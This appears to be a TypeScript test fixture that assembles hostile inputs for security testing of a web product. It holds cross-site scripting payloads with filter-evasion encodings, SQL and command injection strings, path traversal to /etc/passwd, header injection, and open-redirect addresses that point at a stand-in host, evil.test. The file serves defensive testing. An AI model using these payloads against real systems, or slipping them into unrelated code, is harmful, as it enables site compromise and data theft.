/**
 * Texts and addresses that mean harm, put together here, so that wherever the product is tested
 * they are tried; the public lists, where they are (../shared/data), are tried besides.
 */

/** What ends the place that a text stands in. */
const breakers = ["", "\">", "'>", "` ", "</textarea>", "</title>", "</script>", "-->", "]]>"];

const scripts = [
  "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
  "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<style>*{background:url(//evil.test)}</style>",
  "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<object data=javascript:alert(1)>", "<form action=//evil.test><button>x", "<template><script>alert(1)</script>", " onmouseover=alert(1) x=", "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}",
];

/** How they are written so that a filter does not know them. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&#62;"),
  (text) => encodeURIComponent(text),
];

const oddities = [
  "null", "undefined", "NaN", "true", "0", "-1", "1e309", "0x10", "2147483648", "__proto__", "constructor", "hasOwnProperty", "$&", "$`", "%", "%s%n", "%00", "..", "../../../etc/passwd", "C:\\con", "\\", "\\\\", "'", "\"", "`",
  "' or 1=1 --", "'; drop table users; --", "\"}],\"x\":[{\"", "${7*7}", "<%= 7*7 %>", "#{7*7}", "$(id)", "`id`", "| id", "=1+1", "@SUM(1)", "\t", " ", "\u00a0", "a\u00adb", "\u200b", "\u200d", "\ufeffx", "\u202etxt.exe", "a\u2028b", "\u2029",
  "é", "e\u0301", "ﬀ", "ß", "İ", "ı", "ﷺ", "Ω≈ç√∫", "田中さん", "مرحبا", "שלום", "👩‍👩‍👧‍👦", "🏳️‍🌈", "Z͑ͫ̓ͪ̂ͫ̽͏a̴̙̤l͎̮̘g̩̭̗o", "x".repeat(300), "<".repeat(100), "&amp;".repeat(40), "\u0001", "\u007f", "a\r\nset-cookie: a=b",
];

export const hostileTexts: readonly string[] = [...breakers.flatMap((breaker) => scripts.flatMap((script) => disguises.map((disguise) => disguise(breaker + script)))), ...oddities];

/** What leads out of our hosts, or looks as if it did not. */
const ways = [
  "", "/", "//", "///", "////", "/\\", "\\/", "\\\\", "/\\/", "//\\", "/.//", "/..//", "/%2f", "/%2f/", "%2f%2f", "/%5c", "%5c%5c", "/%09/", "/\t/", "/\n/", "\r\n//", " //", "\u00a0//", "\u0000//", "\u3000//", "/\u2044/", "/\uff0f/", "/?//", "/#//", "/;//",
  "http:", "https:", "https:/", "https://", "HtTpS://", "https:\\\\", "http:///", "//user:word@", "//signing.example@", "https://signing.example@", "https://signing.example.", "//signing.example%40", "/@", "ftp://", "ws://", "//[::ffff:127.0.0.1]@",
];
const places = ["evil.test", "evil.test/", "evil.test:443/x", "evil.test/%2e%2e", "evil.test?x=/profile", "evil.test#/profile", "evil%2etest", "EVIL.TEST", "evil。test", "0x7f.1"];

export const hostileAddresses: readonly string[] = [
  ...ways.flatMap((way) => places.map((place) => way + place)),
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\u0001javascript:alert(1)", "javascript&colon;alert(1)", "/javascript:alert(1)", "//javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "blob:https://evil.test/x", "file:///etc/passwd", "about:blank", "http:", "//", "/\\", "\\",
];
